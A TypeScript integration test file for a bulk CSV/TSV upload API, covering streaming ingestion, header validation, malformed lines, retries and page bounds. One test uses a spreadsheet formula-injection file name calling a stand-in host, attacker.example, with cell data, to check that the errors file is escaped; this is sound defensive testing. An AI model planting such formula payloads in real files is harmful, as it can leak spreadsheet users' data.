// Bulk API: files pushed to a custom job are staged as they stream in and ingested by a run like any
// other, each malformed line or bad value a failed record found by its line.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, api, startStack, type Stack } from './support/stack.js';
import { waitForRun, type JobDoc, type RunDoc } from './support/px-flow.js';
import { accountsCsv, uploadFile } from './support/files.js';
import { spreadsheetSafe } from '../api/csv-cells.js';

type RunWithFiles = RunDoc & { files?: { name: string; counts: RunDoc['counts'] }[] };

describe('Bulk API uploads', () => {
  let stack: Stack;
  let connectionId: string;
  let job: JobDoc;

  beforeAll(async () => {
    stack = await startStack({ px: false });
    const created = await api<{ id: string }>(stack, 'POST', '/v1/connections', { connector: 'bulk-api', name: 'Files', config: {} });
    expect(created.status, created.text).toBe(201);
    connectionId = created.body.id;
    const made = await api<JobDoc>(stack, 'POST', '/v1/jobs', {
      connectionId,
      name: 'Accounts from files',
      source: { object: 'file' },
      target: { object: 'company' },
      mappings: [
        { source: 'Account Id', target: 'px_account_id', upsertKey: true },
        { source: 'Name', target: 'name' },
        { source: 'Employees', target: 'employees' },
      ],
    });
    expect(made.status, made.text).toBe(201);
    job = made.body;
  });
  afterAll(async () => stack?.stop());

  it('allows one Bulk API connection, with no out-of-the-box jobs', async () => {
    const second = await api<{ error: { code: string } }>(stack, 'POST', '/v1/connections', { connector: 'bulk-api', name: 'More files', config: {} });
    expect(second.status).toBe(409);
    const listed = await api<{ items: JobDoc[] }>(stack, 'GET', `/v1/jobs?connectionId=${connectionId}`);
    expect(listed.body.items.map((j) => j.name)).toEqual(['Accounts from files']);
  });

  it('refuses a file that lacks a column the job reads, naming it, before anything runs', async () => {
    const refused = await uploadFile(stack, job.id, 'Account Id,Title\r\nacc-1,CEO\r\n', { query: { name: 'people.csv' } });
    expect(refused.status).toBe(422);
    expect(refused.body.error?.code).toBe('missing_columns');
    expect(refused.body.error?.message).toContain('Name, Employees');
    expect(refused.body.error?.details.map((d) => d.path)).toEqual(['header/Name', 'header/Employees']);
    const [staged] = await stack.database.sql<{ uploads: number; rows: number; runs: number }[]>`
      select (select count(*)::int from uploads) as uploads, (select count(*)::int from staged_rows) as rows, (select count(*)::int from runs) as runs`;
    expect(staged).toEqual({ uploads: 0, rows: 0, runs: 0 });
  });

  it('lands 100,000 streamed rows exactly: good rows upserted, each bad line a failed record named by its line', async () => {
    const file = accountsCsv(100_000, 2500);
    const started = Date.now();
    const answer = await uploadFile(stack, job.id, file.stream, { query: { name: 'accounts.csv' } });
    const stagedAfter = Date.now() - started;
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    expect(answer.body.upload).toMatchObject({ name: 'accounts.csv', rows: 100_000, malformed: file.bad.size / 2 });
    const run: RunWithFiles = await waitForRun(stack, answer.body.runId, 120_000);
    console.info(`100,000-row upload: staged in ${stagedAfter} ms, ingested ${Date.now() - started} ms after the upload began`);

    expect(run.status).toBe('partial_success');
    expect(run.trigger).toBe('upload');
    expect(run.counts).toMatchObject({ fetched: 100_000, inserted: file.good.size, failed: file.bad.size });
    expect(run.files).toEqual([{ name: 'accounts.csv', counts: run.counts }]);

    const rows = await stack.database.sql<{ px_account_id: string; name: string; employees: number }[]>`select px_account_id, name, employees from company`;
    expect(rows).toHaveLength(file.good.size);
    const wrong = rows.filter((row) => {
      const expected = file.good.get(row.px_account_id);
      return expected?.name !== row.name || expected.employees !== row.employees;
    });
    expect(wrong).toEqual([]);

    const errors = await api<string>(stack, 'GET', `/v1/runs/${run.id}/errors`);
    const failed = errors.text.trim().split('\n').slice(1);
    expect(failed).toHaveLength(file.bad.size);
    for (const [line, word] of file.bad) {
      const row = failed.find((r) => r.startsWith(`accounts.csv line ${line},`));
      expect(row, `line ${line}`).toBeDefined();
      expect(row).toContain(word);
    }
    const [left] = await stack.database.sql<{ rows: number }[]>`select count(*)::int as rows from staged_rows`;
    expect(left!.rows).toBe(0);
    const uploads = await api<{ items: { status: string; consumedByRun: string }[] }>(stack, 'GET', `/v1/bulk/jobs/${job.id}/files`);
    expect(uploads.body.items[0]).toMatchObject({ status: 'consumed', consumedByRun: run.id });
  });

  it('reads a TSV upload, quoted tabs and line breaks included', async () => {
    const tsv = 'Account Id\tName\tEmployees\nacc-1\t"Tab\tand\nnewline"\t7\nacc-200001\tNew one\t3\n';
    const answer = await uploadFile(stack, job.id, tsv, { contentType: 'text/tab-separated-values', query: { name: 'update.tsv' } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.status).toBe('success');
    expect(run.counts).toMatchObject({ fetched: 2, failed: 0 });
    const rows = await stack.database.sql<{ name: string; employees: number }[]>`select name, employees from company where px_account_id in ('acc-1', 'acc-200001') order by px_account_id`;
    expect(rows).toEqual([{ name: 'Tab\tand\nnewline', employees: 7 }, { name: 'New one', employees: 3 }]);
  });

  it('takes the delimiter from the query when the content type does not say', async () => {
    const answer = await uploadFile(stack, job.id, 'Account Id\tName\tEmployees\r\nacc-2\tRenamed\t9\r\n', { contentType: 'application/octet-stream', query: { delimiter: 'tab' } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.counts).toMatchObject({ fetched: 1, failed: 0 });
    const [renamed] = await stack.database.sql<{ name: string }[]>`select name from company where px_account_id = 'acc-2'`;
    expect(renamed?.name).toBe('Renamed');
    const unsaid = await uploadFile(stack, job.id, 'a,b\r\n', { contentType: 'application/octet-stream' });
    expect(unsaid.status).toBe(400);
    const json = await uploadFile(stack, job.id, JSON.stringify({ rows: [] }), { contentType: 'application/json' });
    expect(json.status).toBe(415);
  });

  it('uploads arriving together all land, whichever run reads them', async () => {
    const files = [1, 2, 3].map((k) => `Account Id,Name,Employees\r\nburst-${k}-a,Burst ${k} A,${k}\r\nburst-${k}-b,Burst ${k} B,${k}\r\n`);
    const answers = await Promise.all(files.map((file, k) => uploadFile(stack, job.id, file, { query: { name: `burst-${k + 1}.csv` } })));
    for (const answer of answers) expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const runs = await Promise.all([...new Set(answers.map((a) => a.body.runId))].map((id) => waitForRun(stack, id)));
    expect(runs.every((r) => r.status === 'success')).toBe(true);
    expect(runs.reduce((sum, r) => sum + r.counts.inserted, 0)).toBe(6);
    const [landed] = await stack.database.sql<{ rows: number }[]>`select count(*)::int as rows from company where px_account_id like 'burst-%'`;
    expect(landed!.rows).toBe(6);
    const uploads = await api<{ items: { name: string; status: string }[] }>(stack, 'GET', `/v1/bulk/jobs/${job.id}/files`);
    expect(uploads.body.items.filter((u) => u.name.startsWith('burst-')).map((u) => u.status)).toEqual(['consumed', 'consumed', 'consumed']);
  });

  it('takes uploads from a real HTTP client, and refuses a wrong header without waiting for the rest of the file', async () => {
    const address = await stack.app.listen({ host: '127.0.0.1', port: 0 });
    const post = (body: ReadableStream | string, name: string) =>
      fetch(`${address}/v1/bulk/jobs/${job.id}/files?name=${name}`, { method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'text/csv' }, body, duplex: 'half' } as RequestInit);
    const ok = await post('Account Id,Name,Employees\nhttp-1,Over the wire,4\n', 'wire.csv');
    expect(ok.status).toBe(202);
    expect((await waitForRun(stack, ((await ok.json()) as { runId: string }).runId)).counts).toMatchObject({ inserted: 1 });

    let sent = 0;
    const endless = new ReadableStream({
      pull(controller) {
        controller.enqueue(new TextEncoder().encode(sent === 0 ? 'Account Id,Title\n' : 'acc-1,CEO\n'.repeat(1000)));
        sent++;
      },
    });
    const refused = await post(endless, 'wrong.csv');
    expect(refused.status).toBe(422);
    // The server closes the connection rather than read and discard the rest of the file.
    expect(refused.headers.get('connection')).toBe('close');
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('missing_columns');
  });

  it('feeds Company Person through a lookup and a filter, whose header columns are required too', async () => {
    const made = await api<JobDoc>(stack, 'POST', '/v1/jobs', {
      connectionId,
      name: 'Contacts from files',
      source: { object: 'contacts' },
      target: { object: 'company_person' },
      mappings: [
        { source: 'Email', target: 'email', upsertKey: true },
        { source: 'Role', target: 'role' },
      ],
      derivedMappings: [{ target: 'company_id', object: 'company', match: [{ source: 'Account', field: 'px_account_id' }], onNoMatch: 'error', onMultipleMatches: 'error' }],
      filters: { conditions: [{ id: 'A', field: 'Status', op: 'eq', value: 'active' }] },
    });
    expect(made.status, made.text).toBe(201);
    const refused = await uploadFile(stack, made.body.id, 'Email,Role\nann@example.com,CEO\n');
    expect(refused.status).toBe(422);
    expect(refused.body.error?.details.map((d) => d.path)).toEqual(['header/Account', 'header/Status']);

    const company = await uploadFile(stack, job.id, 'Account Id,Name,Employees\nco-1,Contact Co,5\n');
    expect((await waitForRun(stack, company.body.runId)).counts.failed).toBe(0);
    const file = 'Email,Role,Account,Status\nann@example.com,CEO,co-1,active\nbob@example.com,CTO,co-1,left\ncy@example.com,CFO,nowhere,active\n';
    const answer = await uploadFile(stack, made.body.id, file, { query: { name: 'contacts.csv' } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.counts).toMatchObject({ fetched: 3, filtered: 1, inserted: 1, failed: 1 });
    const [linked] = await stack.database.sql<{ role: string; px_account_id: string }[]>`
      select cp.role, c.px_account_id from company_person cp join person p on p.gsid = cp.person_id join company c on c.gsid = cp.company_id
      where p.email = 'ann@example.com'`;
    expect(linked).toEqual({ role: 'CEO', px_account_id: 'co-1' });
    const errors = await api<string>(stack, 'GET', `/v1/runs/${run.id}/errors`);
    expect(errors.text).toContain('contacts.csv line 4,');
  });

  it('an oversized line, a quote never closed and a bad value each fail alone, named by line; every other row lands', async () => {
    const huge = 'x'.repeat(1024 * 1024 + 100);
    const file = [
      'Account Id,Name,Employees',
      'bound-1,One,1',
      `bound-2,${huge},2`,
      'bound-3,Three,3000000000',
      'bound-4,"Four never closed,4',
      'bound-5,Five,5',
      'bound-6,Six\u0000,6',
      'bound-7,Seven,7',
    ].join('\n');
    const answer = await uploadFile(stack, job.id, file, { query: { name: 'bounds.csv' } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.status).toBe('partial_success');
    expect(run.counts).toMatchObject({ fetched: 7, failed: 4 });
    const landed = await stack.database.sql<{ px_account_id: string }[]>`select px_account_id from company where px_account_id like 'bound-%' order by 1`;
    expect(landed.map((r) => r.px_account_id)).toEqual(['bound-1', 'bound-5', 'bound-7']);
    const errors = (await api<string>(stack, 'GET', `/v1/runs/${run.id}/errors`)).text;
    expect(errors).toMatch(/bounds\.csv line 3,.*longer than 1 MB/);
    expect(errors).toMatch(/bounds\.csv line 4,.*from -2147483648 to 2147483647/);
    expect(errors).toMatch(/bounds\.csv line 5,.*never closed; the line was skipped/);
    expect(errors).toMatch(/bounds\.csv line 7,.*NUL character/);
  });

  it('pages are bounded by bytes as well as rows', async () => {
    const wide = 'w'.repeat(600 * 1024);
    const rows = Array.from({ length: 40 }, (_, i) => `wide-${i},Wide ${i},${i},${wide}`);
    const answer = await uploadFile(stack, job.id, ['Account Id,Name,Employees,Notes', ...rows].join('\n'), { query: { name: 'wide.csv' } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.counts).toMatchObject({ fetched: 40, inserted: 40, failed: 0 });
    // 40 rows of 600 KB at most 16 MB a page: at least two pages, although the page size is 5000 rows.
    const [pages] = await stack.database.sql<{ pages: number }[]>`select pages from runs where id = ${run.id}`;
    expect(pages!.pages).toBeGreaterThanOrEqual(2);
  });

  it('refuses job options the Bulk API cannot use, naming the option (a page size of 0, -1 or "x" would never end or never read)', async () => {
    for (const options of [{ pageSize: 0 }, { pageSize: -1 }, { pageSize: 'x' }, { pageSize: 2.5 }, { pageSize: 10_001 }]) {
      const refused = await api<{ error: { details: { path: string; message: string }[] } }>(stack, 'PATCH', `/v1/jobs/${job.id}`, { options });
      expect(refused.status, JSON.stringify(options)).toBe(400);
      expect(refused.body.error.details).toEqual([{ path: '/options/pageSize', message: 'pageSize must be a whole number from 1 to 10000' }]);
    }
    const unknown = await api<{ error: { details: { path: string }[] } }>(stack, 'PATCH', `/v1/jobs/${job.id}`, { options: { pattern: '*.csv' } });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.details[0]!.path).toBe('/options/pattern');
    expect((await api(stack, 'PATCH', `/v1/jobs/${job.id}`, { options: { pageSize: 200 } })).status).toBe(200);
    expect((await api(stack, 'PATCH', `/v1/jobs/${job.id}`, { options: {} })).status).toBe(200);
  });

  it('a retry of a run\'s failed rows lands them once the mapping is fixed; a line that could not be read says it cannot be retried', async () => {
    const answer = await uploadFile(stack, job.id, 'Account Id,Name,Employees\nretry-1,One,lots\nretry-2,Two,2,extra\nretry-3,Three,3\n', { query: { name: 'retry.csv' } });
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.counts).toMatchObject({ fetched: 3, inserted: 1, failed: 2 });
    const fixed = await api(stack, 'PATCH', `/v1/jobs/${job.id}`, { mappings: job.mappings.filter((m) => m.target !== 'employees') });
    expect(fixed.status, fixed.text).toBe(200);
    try {
      const retried = await api<{ runId: string }>(stack, 'POST', `/v1/runs/${run.id}/retry-failed`);
      expect(retried.status, retried.text).toBe(202);
      const retry = await waitForRun(stack, retried.body.runId);
      expect(retry).toMatchObject({ trigger: 'retry_failed', status: 'partial_success', counts: { fetched: 2, inserted: 1, failed: 1 } });
      const [one] = await stack.database.sql<{ name: string }[]>`select name from company where px_account_id = 'retry-1'`;
      expect(one?.name).toBe('One');
      const errors = (await api<string>(stack, 'GET', `/v1/runs/${retry.id}/errors`)).text;
      expect(errors).toMatch(/retry\.csv line 3,.*could not be retried: the source could not read it as a record/);
    } finally {
      expect((await api(stack, 'PATCH', `/v1/jobs/${job.id}`, { mappings: job.mappings })).status).toBe(200);
    }
  });

  it('writes cells a spreadsheet would run as formulas into the errors file as text', async () => {
    const name = '=HYPERLINK("http://attacker.example/?"&A1,"open").csv';
    const answer = await uploadFile(stack, job.id, 'Account Id,Name,Employees\n@SUM(1+1),Acme,lots\n+cmd,Globex,many\n', { query: { name } });
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    const run = await waitForRun(stack, answer.body.runId);
    expect(run.counts).toMatchObject({ fetched: 2, failed: 2 });
    const errors = await api<string>(stack, 'GET', `/v1/runs/${run.id}/errors`);
    const rows = errors.text.trim().split('\n').slice(1);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.startsWith(`"'=HYPERLINK(`), row).toBe(true);
    expect(errors.text).toContain('""px_account_id"":""@SUM(1+1)""');
  });

  it('an Import Now with nothing uploaded reads nothing and succeeds', async () => {
    const triggered = await api<{ runId: string }>(stack, 'POST', `/v1/jobs/${job.id}/import-now`);
    expect(triggered.status).toBe(202);
    const run = await waitForRun(stack, triggered.body.runId);
    expect(run).toMatchObject({ status: 'success', counts: { fetched: 0 } });
  });
});

describe('cells of a CSV a person opens in a spreadsheet', () => {
  it('starting with =, +, -, @, a tab or a carriage return are kept as text with a leading apostrophe', () => {
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
    for (const cell of ['acc-1', '{"a":1}', 'line 2', '', ' =1']) expect(spreadsheetSafe(cell)).toBe(cell);
    expect(spreadsheetSafe(null)).toBeNull();
  });
});
